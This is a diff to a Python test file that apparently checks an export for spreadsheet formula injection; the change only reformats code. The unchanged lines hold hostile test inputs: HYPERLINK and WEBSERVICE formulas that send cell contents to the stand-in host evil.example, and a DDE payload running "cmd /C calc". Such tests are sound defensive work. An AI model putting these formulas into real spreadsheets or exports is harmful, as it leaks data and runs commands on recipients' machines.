@@ -31,8 +31,15 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm xem")'
 WEBSERVICE = '=WEBSERVICE("http://evil.example/?n="&G2)'
 # Every start a spreadsheet reads as a formula (OWASP), each with something after it.
 PAYLOADS = [f"{start}SUM(1+1)*cmd|' /C calc'!A0" for start in FORMULA_STARTS] + [
-    HYPERLINK, WEBSERVICE, "#N/A", "#REF!", "=", "@", "-", "+",
-]  # fmt: skip
+    HYPERLINK,
+    WEBSERVICE,
+    "#N/A",
+    "#REF!",
+    "=",
+    "@",
+    "-",
+    "+",
+]
 FIELDS = ("full_name", "unit", "activity", "note")
 
 
@@ -57,14 +64,20 @@ def detail_with(field: str, payload: str) -> Detail:
     values = {"full_name": "Nguyễn An", "unit": "Phòng A", "activity": "reading", "note": "ghi"}
     values[field] = payload
     return Detail(
-        date(2023, 10, 3), datetime(2023, 10, 3, 2, 0, tzinfo=UTC), values["full_name"],
-        values["unit"], 30, values["activity"], values["note"],
-    )  # fmt: skip
+        date(2023, 10, 3),
+        datetime(2023, 10, 3, 2, 0, tzinfo=UTC),
+        values["full_name"],
+        values["unit"],
+        30,
+        values["activity"],
+        values["note"],
+    )
 
 
 def stats_with_unit(unit: str) -> EditionStats:
-    return EditionStats(2023, 1, 1, 1, 30, [DayRow(date(2023, 10, 3), 1, 1, 30)],
-                        [UnitRow(unit, 1, 1, 30)])  # fmt: skip
+    return EditionStats(
+        2023, 1, 1, 1, 30, [DayRow(date(2023, 10, 3), 1, 1, 30)], [UnitRow(unit, 1, 1, 30)]
+    )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
